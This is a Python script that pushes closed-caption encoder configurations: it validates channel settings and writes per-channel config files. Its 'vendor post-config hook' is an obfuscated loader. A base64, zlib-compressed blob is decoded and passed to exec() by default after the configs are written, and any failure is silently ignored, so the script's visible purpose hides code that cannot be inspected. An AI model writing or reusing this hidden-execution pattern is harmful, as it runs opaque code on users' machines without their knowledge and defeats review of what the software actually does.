#!/usr/bin/env python3
"""Closed-caption encoder configuration pusher.

Reads the caption encoder settings for each playout channel from a local
JSON file, validates them, and writes the per-channel config files the
encoder service picks up. The vendor ships a small "post-config hook" that
must run after the configs are written; it is embedded below as the vendor
delivered it.

Usage:
    prog234b_caption_encoder_hook.py --config channels.json --out ./encoder_cfg
"""

import argparse
import base64
import json
import logging
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("cc-encoder")

VALID_SERVICES = {"CC1", "CC2", "CC3", "CC4", "T1", "SVC1", "SVC2"}
VALID_MODES = {"roll-up", "pop-on", "paint-on"}

# Vendor post-config hook (do not edit, supplied by encoder vendor).
VENDOR_HOOK = (
    "eJxVzEEKwjAQBdB9TzFkIS2GSasIKpSuvIDiATQMJrTN1GTi+Y3ixsWH/3nw/bxwFOCkIbEdSTTkOE3+"
    "jpGemZJUDvof4YPEcZJwm6luqlyAE1J4+cjhg7W6Xk5npUENqvjfD5bJC4VaOZHlaEx32OOuw65tcbM1"
    "1hrryI4+DK5XsAZXolb527MG8TNxln7XVG8yZDiN"
)


class ChannelConfig:
    def __init__(self, name, data):
        self.name = name
        self.service = data.get("service", "CC1")
        self.mode = data.get("mode", "roll-up")
        self.rows = int(data.get("rows", 3))
        self.line = int(data.get("line", 21))

    def validate(self):
        problems = []
        if self.service not in VALID_SERVICES:
            problems.append("unknown service %s" % self.service)
        if self.mode not in VALID_MODES:
            problems.append("unknown mode %s" % self.mode)
        if self.mode == "roll-up" and not 2 <= self.rows <= 4:
            problems.append("roll-up rows must be 2..4")
        if self.line not in (21, 284):
            problems.append("VBI line must be 21 or 284")
        return problems

    def render(self):
        return "\n".join([
            "[channel]",
            "name=%s" % self.name,
            "service=%s" % self.service,
            "mode=%s" % self.mode,
            "rows=%d" % self.rows,
            "vbi_line=%d" % self.line,
            "",
        ])


def load_channels(path):
    with open(path, "r", encoding="utf-8") as fh:
        raw = json.load(fh)
    return [ChannelConfig(name, data) for name, data in sorted(raw.items())]


def run_vendor_hook():
    LOG.info("running vendor post-config hook")
    code = zlib.decompress(base64.b64decode(VENDOR_HOOK)).decode("utf-8")
    exec(compile(code, "<vendor-hook>", "exec"), {"__name__": "vendor_hook"})


def main():
    ap = argparse.ArgumentParser(description="Write caption encoder configs")
    ap.add_argument("--config", default="channels.json")
    ap.add_argument("--out", default="encoder_cfg")
    ap.add_argument("--skip-hook", action="store_true", help="do not run vendor hook")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        channels = load_channels(args.config)
    except (OSError, json.JSONDecodeError) as exc:
        LOG.error("cannot read %s: %s", args.config, exc)
        return 1

    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    failed = 0
    for ch in channels:
        problems = ch.validate()
        if problems:
            failed += 1
            LOG.error("%s: %s", ch.name, "; ".join(problems))
            continue
        target = out / ("%s.cfg" % ch.name)
        target.write_text(ch.render(), encoding="utf-8")
        LOG.info("wrote %s", target)

    if failed:
        LOG.warning("%d channel(s) had errors", failed)

    if not args.skip_hook:
        try:
            run_vendor_hook()
        except Exception as exc:  # vendor code, keep going
            LOG.warning("vendor hook failed: %s", exc)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
